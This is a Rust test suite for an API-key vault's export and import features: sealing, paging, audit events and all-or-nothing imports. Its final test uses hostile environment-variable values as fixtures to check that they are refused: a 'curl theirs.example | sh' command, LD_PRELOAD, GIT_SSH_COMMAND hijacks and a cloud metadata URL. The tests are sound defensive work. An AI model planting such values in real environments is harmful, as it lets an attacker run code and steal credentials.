//! Export and import through the door: what leaves, for whom, and that what comes in is all or nothing.

// A helper that fails is a test that fails.
#![allow(clippy::unwrap_used)]

mod support;

use std::collections::BTreeMap;

use akm_core::crypto::age;
use akm_core::protocol::{
    AuditList, ExportFormat, ExportPage, ImportOutcome, ImportReport, KeyList, KeyRow, KeyStatus,
    KeyUpdate, VaultExport, VaultImport,
};
use akm_core::transfer::{self, FileFormat};
use akm_core::{Kind, Result};
use support::{Bench, PASSPHRASE, kind, new_key, secret};

const SEAL: &str = "the passphrase of the file";

fn row(name: &str, value: &str) -> KeyRow {
    KeyRow {
        name: name.into(),
        secret: secret(value),
        model: None,
        categories: Vec::new(),
        notes: None,
        expires_at: None,
        env: None,
        low_balance: None,
        team: None,
        lifetime_s: None,
        use_only: None,
        confirm: None,
        base_url: None,
        disabled: None,
    }
}

fn in_clear(format: ExportFormat) -> VaultExport {
    VaultExport {
        format: Some(format),
        passphrase: Some(secret(PASSPHRASE)),
        ..VaultExport::default()
    }
}

fn sealed() -> VaultExport {
    VaultExport {
        seal: Some(secret(SEAL)),
        ..VaultExport::default()
    }
}

/// All pieces of an export: the file, its last page, and everything that was left out.
fn exported(bench: &Bench, first: VaultExport) -> Result<(Vec<u8>, ExportPage, Vec<String>, u32)> {
    let is_sealed = first.seal.is_some();
    let mut request = first;
    let (mut file, mut left_out, mut pages) = (Vec::new(), Vec::new(), 0);
    loop {
        let mut page = bench.call(request)?;
        pages += 1;
        let content = page.content.expose().as_bytes();
        match is_sealed {
            true => file.extend(data_encoding::BASE64.decode(content).unwrap()),
            false => file.extend_from_slice(content),
        }
        left_out.append(&mut page.left_out);
        match page.next.clone() {
            Some(next) => {
                request = VaultExport {
                    after: Some(next),
                    ..VaultExport::default()
                };
            }
            None => return Ok((file, page, left_out, pages)),
        }
    }
}

fn opened(file: &[u8]) -> Vec<KeyRow> {
    let plain = match transfer::detect(file).unwrap() {
        FileFormat::Age => age::open(file, &secret(SEAL)).unwrap().to_vec(),
        FileFormat::Plain(_) => file.to_vec(),
        FileFormat::Manager | FileFormat::ManagerDatabase => panic!("not ours"),
    };
    let FileFormat::Plain(format) = transfer::detect(&plain).unwrap() else {
        panic!("sealed twice");
    };
    transfer::parse(format, &plain).unwrap().keys
}

fn secrets(rows: &[KeyRow]) -> BTreeMap<String, String> {
    let pair = |row: &KeyRow| (row.name.clone(), row.secret.expose().to_owned());
    rows.iter().map(pair).collect()
}

fn imported(bench: &Bench, rows: Vec<KeyRow>) -> Result<ImportReport> {
    bench.call(VaultImport {
        keys: rows,
        finish: Some(true),
        ..VaultImport::default()
    })
}

fn names(bench: &Bench) -> Vec<String> {
    let list = KeyList {
        limit: Some(1000),
        ..KeyList::default()
    };
    let mut names: Vec<String> = bench
        .call(list)
        .unwrap()
        .keys
        .into_iter()
        .map(|key| key.name)
        .collect();
    names.sort();
    names
}

/// A vault with one key of each kind that an export treats otherwise.
fn varied() -> Bench {
    let bench = Bench::initialized();
    bench.add("openai/work", "sk-work").unwrap();
    bench.add("openai/home", "sk-home").unwrap();
    let mut hidden = new_key("groq", "sk-use-only");
    hidden.use_only = Some(true);
    bench.call(hidden).unwrap();
    bench.add("mistral", "sk-burned").unwrap();
    bench.add("anthropic", "sk-off").unwrap();
    for (name, status) in [
        ("mistral", KeyStatus::Burned),
        ("anthropic", KeyStatus::Disabled),
    ] {
        let body = format!(
            r#"{{"name":"{name}","status":{}}}"#,
            serde_json::to_string(&status).unwrap()
        );
        let update: KeyUpdate = serde_json::from_str(&body).unwrap();
        bench.call(update).unwrap();
    }
    bench
}

#[test]
fn a_sealed_export_opens_with_its_passphrase_and_comes_back_into_an_empty_vault() {
    let bench = varied();
    let (file, page, left_out, _) = exported(&bench, sealed()).unwrap();
    assert!(
        !file.windows(3).any(|bytes| bytes == b"sk-"),
        "it is sealed"
    );
    assert_eq!((page.keys, page.total), (3, 5));
    let mut left_out = left_out;
    left_out.sort();
    assert_eq!(left_out, ["groq/default", "mistral/default"]);
    let wrong = age::open(&file, &secret("another"));
    assert_eq!(wrong.err().unwrap().kind(), Kind::WrongCredentials);

    let rows = opened(&file);
    let other = Bench::initialized();
    let report = imported(&other, rows).unwrap();
    assert_eq!((report.added, report.refused), (3, 0));
    assert_eq!(other.get("openai/work").unwrap(), "sk-work");
    assert_eq!(
        kind(other.get("anthropic")),
        Kind::Denied,
        "it is still switched off"
    );
    // Once more changes nothing.
    let report = imported(&other, opened(&file)).unwrap();
    assert_eq!((report.added, report.unchanged), (0, 3));
}

#[test]
fn plaintext_and_use_only_keys_need_the_passphrase_and_burned_keys_never_leave() {
    let bench = varied();
    let case =
        |request: VaultExport| exported(&bench, request).map(|(file, ..)| secrets(&opened(&file)));
    for refused in [
        VaultExport::default(),
        VaultExport {
            use_only: Some(true),
            ..sealed()
        },
        VaultExport {
            use_only: Some(true),
            ..in_clear(ExportFormat::Json)
        },
    ] {
        assert_eq!(kind(case(refused)), Kind::Denied);
    }
    let wrong = VaultExport {
        passphrase: Some(secret("wrong")),
        ..VaultExport::default()
    };
    assert_eq!(kind(case(wrong)), Kind::WrongCredentials);

    for format in [ExportFormat::Json, ExportFormat::Cxf, ExportFormat::Env] {
        let all = case(in_clear(format)).unwrap();
        let values: Vec<&str> = all.values().map(String::as_str).collect();
        assert_eq!(values, ["sk-off", "sk-home", "sk-work"], "{format:?}");
    }
    let with = VaultExport {
        use_only: Some(true),
        passphrase: Some(secret(PASSPHRASE)),
        ..sealed()
    };
    let all = case(with).unwrap();
    assert_eq!(all["groq/default"], "sk-use-only");
    assert!(!all.values().any(|value| value == "sk-burned"));
    assert_eq!(all.len(), 4);
}

#[test]
fn a_use_only_key_stays_one_on_its_way() {
    let bench = varied();
    let with = VaultExport {
        use_only: Some(true),
        passphrase: Some(secret(PASSPHRASE)),
        ..sealed()
    };
    let (file, ..) = exported(&bench, with).unwrap();
    let other = Bench::initialized();
    imported(&other, opened(&file)).unwrap();
    assert_eq!(kind(other.get("groq")), Kind::Denied);
}

#[test]
fn every_key_that_leaves_or_comes_has_its_event() {
    let bench = varied();
    exported(&bench, sealed()).unwrap();
    imported(&bench, vec![row("xai", "sk-x")]).unwrap();
    let _ = kind(exported(&bench, VaultExport::default()));
    let list = |action: &str| {
        let events = bench
            .call(AuditList {
                action: Some(action.into()),
                ..AuditList::default()
            })
            .unwrap()
            .events;
        let mut told: Vec<(Option<String>, String)> = events
            .into_iter()
            .map(|event| (event.key, event.outcome))
            .collect();
        told.sort();
        told
    };
    let one = |key: Option<&str>, outcome: &str| (key.map(str::to_owned), outcome.to_owned());
    assert_eq!(
        list("vault.export"),
        [
            one(None, "denied"),
            one(None, "ok"),
            one(Some("anthropic/default"), "ok"),
            one(Some("openai/home"), "ok"),
            one(Some("openai/work"), "ok"),
        ]
    );
    assert_eq!(
        list("vault.import"),
        [one(None, "ok"), one(Some("xai/default"), "ok")]
    );
}

#[test]
fn ten_thousand_keys_leave_and_come_in_pages_that_fit() {
    const COUNT: usize = 10_000;
    let bench = Bench::initialized();
    let rows: Vec<KeyRow> = (0..COUNT)
        .map(|n| row(&format!("openai/{n}"), &format!("sk-{n}")))
        .collect();
    let expected = secrets(&rows);
    let mut import = None;
    let mut rows = rows.into_iter().peekable();
    while rows.peek().is_some() {
        let page: Vec<KeyRow> = rows.by_ref().take(1000).collect();
        let first = import.is_none();
        let report = bench
            .call(VaultImport {
                import,
                keys: page,
                skip_existing: first.then_some(false),
                finish: None,
            })
            .unwrap();
        assert_eq!(report.refused, 0);
        import = report.import;
    }
    assert!(names(&bench).is_empty(), "nothing is stored before the end");
    let finish = VaultImport {
        import,
        finish: Some(true),
        ..VaultImport::default()
    };
    assert_eq!(bench.call(finish).unwrap().added, COUNT as u64);
    let (file, page, _, pages) = exported(&bench, sealed()).unwrap();
    assert!(pages > 30, "{pages} pages");
    assert_eq!(page.keys, COUNT as u64);
    assert!(secrets(&opened(&file)) == expected);
}

#[test]
fn one_bad_key_keeps_all_others_out() {
    let bench = Bench::initialized();
    bench.add("openai", "sk-old").unwrap();
    for bad in [
        row("openai", "sk-new"),
        row("a/b/c", "sk"),
        row("groq", "two\nlines"),
        KeyRow {
            base_url: Some("http://169.254.169.254/".into()),
            ..row("groq", "sk")
        },
    ] {
        let error = imported(&bench, vec![row("mistral", "sk-m"), bad]).unwrap_err();
        assert_eq!(error.kind(), Kind::Conflict);
        assert_eq!(names(&bench), ["openai/default"]);
        assert_eq!(bench.get("openai").unwrap(), "sk-old");
    }
    // Control: without the bad one it goes in.
    assert_eq!(
        imported(&bench, vec![row("mistral", "sk-m")])
            .unwrap()
            .added,
        1
    );
}

#[test]
fn a_key_that_was_added_meanwhile_keeps_the_whole_import_out() {
    let bench = Bench::initialized();
    let begun = bench
        .call(VaultImport {
            keys: vec![row("openai", "sk-1"), row("groq", "sk-2")],
            ..VaultImport::default()
        })
        .unwrap();
    bench.add("groq", "sk-own").unwrap();
    let finish = VaultImport {
        import: begun.import,
        finish: Some(true),
        ..VaultImport::default()
    };
    assert_eq!(kind(bench.call(finish)), Kind::Conflict);
    assert_eq!(names(&bench), ["groq/default"]);
    assert_eq!(bench.get("groq").unwrap(), "sk-own");
}

#[test]
fn existing_keys_are_left_alone_where_that_is_asked_for() {
    let bench = Bench::initialized();
    bench.add("openai", "sk-old").unwrap();
    let report = bench
        .call(VaultImport {
            keys: vec![row("openai", "sk-new"), row("groq", "sk-2")],
            skip_existing: Some(true),
            finish: Some(true),
            ..VaultImport::default()
        })
        .unwrap();
    let outcomes: Vec<ImportOutcome> = report.rows.iter().map(|row| row.outcome).collect();
    assert_eq!(outcomes, [ImportOutcome::Skipped, ImportOutcome::Added]);
    assert_eq!(bench.get("openai").unwrap(), "sk-old");
}

#[test]
fn a_lock_ends_what_is_under_way() {
    let bench = Bench::initialized();
    for n in 0..300 {
        bench.add(&format!("openai/{n}"), "sk-x").unwrap();
    }
    let first = bench.call(sealed()).unwrap();
    let begun = bench
        .call(VaultImport {
            keys: vec![row("groq", "sk-1")],
            ..VaultImport::default()
        })
        .unwrap();
    let next = || VaultExport {
        after: first.next.clone(),
        ..VaultExport::default()
    };
    let finish = || VaultImport {
        import: begun.import.clone(),
        finish: Some(true),
        ..VaultImport::default()
    };
    assert!(first.next.is_some() && begun.import.is_some());
    bench.lock();
    assert_eq!(kind(bench.call(next())), Kind::Locked);
    bench.unlock().unwrap();
    assert_eq!(kind(bench.call(next())), Kind::NotFound);
    assert_eq!(kind(bench.call(finish())), Kind::NotFound);
    assert_eq!(kind(bench.get("groq")), Kind::NotFound);
    // Control: without a lock between them the pages follow each other.
    assert!(exported(&bench, sealed()).is_ok());
}

#[test]
fn no_page_shows_a_secret_in_debug() {
    let bench = varied();
    let page = bench.call(in_clear(ExportFormat::Json)).unwrap();
    assert!(page.content.expose().contains("sk-work"), "control");
    assert!(!format!("{page:?}").contains("sk-work"));
    let request = VaultImport {
        keys: vec![row("openai", "sk-canary")],
        ..VaultImport::default()
    };
    assert!(!format!("{request:?}").contains("canary"));
}

#[test]
fn a_file_of_somebody_else_puts_nothing_where_programs_are_chosen() {
    let bench = Bench::initialized();
    // With `akm run` each would be loaded or run by whatever is started.
    for (variable, value) in [
        ("LD_PRELOAD", "/tmp/theirs.so"),
        ("PROMPT_COMMAND", "curl theirs.example | sh"),
        ("PATH", "/tmp/theirs"),
        ("LESSOPEN", "|theirs %s"),
        ("DOTNET_STARTUP_HOOKS", "/tmp/theirs.dll"),
        ("https_proxy", "http://theirs.example"),
        ("GIT_SSH_COMMAND", "sh -c theirs"),
    ] {
        let theirs = KeyRow {
            env: Some(variable.to_owned()),
            ..row("openai/theirs", value)
        };
        let import = VaultImport {
            keys: vec![row("openai/fine", "sk"), theirs],
            ..VaultImport::default()
        };
        let report = bench.call(import).unwrap();
        let refused = &report.rows[1];
        assert_eq!(refused.outcome, ImportOutcome::Invalid, "{variable}");
        assert_eq!(refused.field.as_deref(), Some("env"), "{variable}");
        let finish = VaultImport {
            import: report.import,
            finish: Some(true),
            ..VaultImport::default()
        };
        assert!(bench.call(finish).is_err(), "{variable}: all or nothing");
        assert!(names(&bench).is_empty(), "{variable}");
        let mut added = new_key("openai", "sk");
        added.env = Some(variable.to_owned());
        assert_eq!(kind(bench.call(added)), Kind::InvalidInput, "{variable}");
    }
    bench.add("openai", "sk").unwrap();
    let update = KeyUpdate {
        name: "openai".to_owned(),
        env: Some("BASH_ENV".to_owned()),
        ..KeyUpdate::default()
    };
    assert_eq!(kind(bench.call(update)), Kind::InvalidInput);
    let fine = KeyRow {
        env: Some("THEIR_API_KEY".to_owned()),
        ..row("openai/fine", "sk")
    };
    let report = imported(&bench, vec![fine]).unwrap();
    assert_eq!(report.rows[0].outcome, ImportOutcome::Added, "control");
}
